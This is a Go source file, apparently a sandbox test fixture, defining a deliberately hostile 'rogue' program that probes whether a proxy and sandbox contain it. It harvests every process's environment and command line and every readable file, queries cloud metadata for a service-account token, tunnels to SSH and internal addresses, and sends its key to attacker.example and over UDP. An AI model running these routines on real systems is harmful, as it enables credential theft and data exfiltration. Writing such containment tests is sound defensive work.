package demo

import (
	"bufio"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"io/fs"
	"net"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"time"
)

// Paths of Payments: one charge, and a stream that continues until its reader
// closes it.
const (
	chargePath = "/v1/charges/42"
	followPath = "/v1/charges/follow"
)

// Bounds of the data that the rogue reports, of one file and in total, in
// bytes.
const (
	maxFile = 1 << 20
	maxHaul = 64 << 20
)

// haul is the result of one attempt of the rogue, one line of its output.
type haul struct {
	Try   string `json:"try"`
	Got   string `json:"got,omitempty"` // the response, or "" for none
	Error string `json:"error,omitempty"`
	Loot  []byte `json:"loot,omitempty"`
}

// rogue is the program in the sandbox: hostile, with a placeholder for its
// work.
type rogue struct {
	env  func(string) string
	say  *json.Encoder
	http *http.Client
	host string // name and port of Payments
	key  string // placeholder for the key
	left int    // bytes that it may still report
}

// Rogue is a program that does its work, and then attempts to find secrets, to
// reach other systems and to send data out. env looks up its environment.
func Rogue(ctx context.Context, env func(string) string, out io.Writer) error {
	r := &rogue{env: env, say: json.NewEncoder(out), http: &http.Client{}, host: env("PAY_HOST"), key: env("PAY_KEY"), left: maxHaul}
	for _, try := range []func(context.Context) haul{
		r.task, r.work, r.processes, r.files, r.places, r.network, r.names, r.proxy, r.metadata, r.elsewhere, r.unescorted, r.beyond, r.query,
	} {
		if err := r.say.Encode(try(ctx)); err != nil {
			return err
		}
	}
	return r.follow(ctx)
}

// task reports its task, and nothing if it has no egress endpoint.
func (r *rogue) task(context.Context) haul {
	if r.env("HTTPS_PROXY") == "" {
		return haul{Try: "task"}
	}
	return haul{Try: "task", Got: r.env("EBB_TASK_ID")}
}

// work does the work of the program.
func (r *rogue) work(ctx context.Context) haul {
	return r.request(ctx, "work", http.MethodGet, chargePath, "Bearer "+r.key)
}

// request sends a request to Payments through the proxy of the environment.
func (r *rogue) request(ctx context.Context, try, method, path, authorization string) haul {
	req, err := http.NewRequestWithContext(ctx, method, "https://"+r.host+path, nil)
	if err != nil {
		return failed(try, err)
	}
	req.Header.Set("Authorization", authorization)
	return r.send(try, req)
}

// show sends the placeholder to url.
func (r *rogue) show(ctx context.Context, try, url string) haul {
	req, err := http.NewRequestWithContext(ctx, http.MethodGet, url, nil)
	if err != nil {
		return failed(try, err)
	}
	req.Header.Set("Authorization", "Bearer "+r.key)
	return r.send(try, req)
}

// send sends a request and reports the status and body of the response.
func (r *rogue) send(try string, req *http.Request) haul {
	resp, err := r.http.Do(req)
	if err != nil {
		return failed(try, err)
	}
	defer resp.Body.Close()
	body, err := io.ReadAll(io.LimitReader(resp.Body, maxFile))
	h := haul{Try: try, Got: fmt.Sprintf("%d %s", resp.StatusCode, strings.TrimSpace(string(body)))}
	if err != nil {
		h.Error = err.Error()
	}
	return h
}

// refused reports whether the proxy refused the attempt, with a response or
// when opening the tunnel. Any other error proves nothing.
func (h haul) refused() bool {
	if h.Error == "" {
		return strings.HasPrefix(h.Got, "40")
	}
	return strings.HasSuffix(h.Error, ": Forbidden") || strings.HasSuffix(h.Error, ": Bad Request") || strings.HasSuffix(h.Error, ": Unauthorized")
}

func failed(try string, err error) haul { return haul{Try: try, Error: err.Error()} }

// processes reads the environment, command line and mounts of every visible
// process.
func (r *rogue) processes(context.Context) haul {
	h := haul{Try: "processes"}
	n := 0
	for _, name := range []string{"environ", "cmdline", "mountinfo"} {
		found, _ := filepath.Glob("/proc/[0-9]*/" + name)
		for _, path := range found {
			if text, err := os.ReadFile(path); err == nil {
				r.take(&h, text)
				n++
			}
		}
	}
	h.Got = fmt.Sprint(n)
	return h
}

// files reads all files except programs and those of the kernel.
func (r *rogue) files(context.Context) haul {
	h := haul{Try: "files"}
	n := 0
	_ = filepath.WalkDir("/", func(path string, d fs.DirEntry, err error) error {
		switch {
		case err != nil:
			return nil // not readable
		case d.IsDir() && (path == "/usr" || path == "/proc" || path == "/sys" || path == "/dev"):
			return fs.SkipDir
		case !d.Type().IsRegular() || path == "/run/ebb/ebb": // this program
			return nil
		}
		f, err := os.Open(path)
		if err != nil {
			return nil
		}
		defer f.Close()
		text, _ := io.ReadAll(io.LimitReader(f, maxFile))
		r.take(&h, text)
		n++
		return nil
	})
	h.Got = fmt.Sprint(n)
	return h
}

func (r *rogue) take(h *haul, text []byte) {
	text = text[:min(len(text), r.left)]
	r.left -= len(text)
	h.Loot = append(append(h.Loot, text...), '\n')
}

// places looks for paths of the machine that would contain secrets.
func (r *rogue) places(context.Context) haul {
	h := haul{Try: "places"}
	for path := range strings.SplitSeq(r.env("PLACES"), ":") {
		if _, err := os.Lstat(path); err == nil {
			h.Got += " " + path
		}
	}
	return h
}

// follow reads the stream until it is cut off, and then sends one more request.
func (r *rogue) follow(ctx context.Context) error {
	req, err := http.NewRequestWithContext(ctx, http.MethodGet, "https://"+r.host+followPath, nil)
	if err != nil {
		return err
	}
	req.Header.Set("Authorization", "Bearer "+r.key)
	resp, err := r.http.Do(req)
	if err != nil {
		return r.say.Encode(failed("follow", err))
	}
	defer resp.Body.Close()
	lines := bufio.NewScanner(resp.Body)
	for n := 0; lines.Scan(); n++ {
		if n == 3 {
			if err := r.say.Encode(haul{Try: "follow", Got: "the stream has begun"}); err != nil {
				return err
			}
		}
	}
	h := haul{Try: "cut"}
	if err := lines.Err(); err != nil {
		h.Error = err.Error()
	}
	if err := r.say.Encode(h); err != nil {
		return err
	}
	return r.say.Encode(r.request(ctx, "after", http.MethodGet, chargePath, "Bearer "+r.key))
}

// knock is the timeout of a connection. Without a network every attempt fails
// at once.
const knock = 2 * time.Second

// network connects directly to addresses that a program on the machine could
// reach.
func (r *rogue) network(ctx context.Context) haul {
	h := haul{Try: "network"}
	d := net.Dialer{Timeout: knock}
	for _, place := range []string{"169.254.169.254:80", "[fd00:ec2::254]:80", "1.1.1.1:443", r.env("EBB_ITSELF"), r.env("PAY_ADDRESS")} {
		if c, err := d.DialContext(ctx, "tcp", place); err == nil {
			_ = c.Close()
			h.Got += " " + place
		}
	}
	return h
}

// names sends DNS queries, which could leak data to a name server: to those of
// the system for an existing name, and to a UDP socket of this machine.
func (r *rogue) names(ctx context.Context) haul {
	h := haul{Try: "names"}
	ctx, cancel := context.WithTimeout(ctx, 2*knock)
	defer cancel()
	if found, err := (&net.Resolver{PreferGo: true}).LookupHost(ctx, "example.com"); err == nil {
		h.Got = strings.Join(found, " ")
	}
	if answer := whisper(ctx, r.env("EAR"), r.key); answer != "" {
		h.Got += " " + answer
	}
	return h
}

// whisper sends one datagram and returns the response, "" if there is none
// within knock.
func whisper(ctx context.Context, place, what string) string {
	c, err := (&net.Dialer{}).DialContext(ctx, "udp", place)
	if err != nil {
		return ""
	}
	defer c.Close()
	_ = c.SetDeadline(time.Now().Add(knock))
	if _, err := c.Write([]byte(what)); err != nil {
		return ""
	}
	buf := make([]byte, 512)
	n, err := c.Read(buf)
	if err != nil {
		return ""
	}
	return string(buf[:n])
}

// proxy requests tunnels that the proxy must refuse.
func (r *rogue) proxy(ctx context.Context) haul {
	h := haul{Try: "proxy"}
	for _, place := range []string{"169.254.169.254:80", "127.0.0.1:22", "[::ffff:10.0.0.1]:443", r.env("EBB_ITSELF")} {
		h.Got += " " + r.tunnel(ctx, place)
	}
	return h
}

// metadata requests the metadata service of a cloud by its name, through the
// proxy.
func (r *rogue) metadata(ctx context.Context) haul {
	return r.show(ctx, "metadata", "https://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token")
}

// elsewhere sends the placeholder to another host.
func (r *rogue) elsewhere(ctx context.Context) haul {
	return r.show(ctx, "elsewhere", "https://attacker.example/collect")
}

// unescorted uses the attacker's own account, where the attacker could read
// stored data.
func (r *rogue) unescorted(ctx context.Context) haul {
	return r.request(ctx, "unescorted", http.MethodGet, chargePath, "Bearer pk_of_the_attacker")
}

// beyond uses the placeholder for an action that the credential does not cover.
func (r *rogue) beyond(ctx context.Context) haul {
	return r.request(ctx, "beyond", http.MethodPost, "/v1/charges/42/refund", "Bearer "+r.key)
}

// query puts the placeholder into the query, which servers log.
func (r *rogue) query(ctx context.Context) haul {
	return r.request(ctx, "query", http.MethodGet, chargePath+"?note="+url.QueryEscape(r.key), "Bearer "+r.key)
}

// tunnel requests a tunnel from the proxy and returns the status of the
// response.
func (r *rogue) tunnel(ctx context.Context, place string) string {
	proxy, err := url.Parse(r.env("HTTPS_PROXY"))
	if err != nil {
		return "none"
	}
	c, err := (&net.Dialer{Timeout: knock}).DialContext(ctx, "tcp", proxy.Host)
	if err != nil {
		return "none"
	}
	defer c.Close()
	_ = c.SetDeadline(time.Now().Add(5 * time.Second))
	if _, err := fmt.Fprintf(c, "CONNECT %[1]s HTTP/1.1\r\nHost: %[1]s\r\n\r\n", place); err != nil {
		return "none"
	}
	resp, err := http.ReadResponse(bufio.NewReader(c), &http.Request{Method: http.MethodConnect})
	if err != nil {
		return "none"
	}
	defer resp.Body.Close()
	return fmt.Sprint(resp.StatusCode)
}
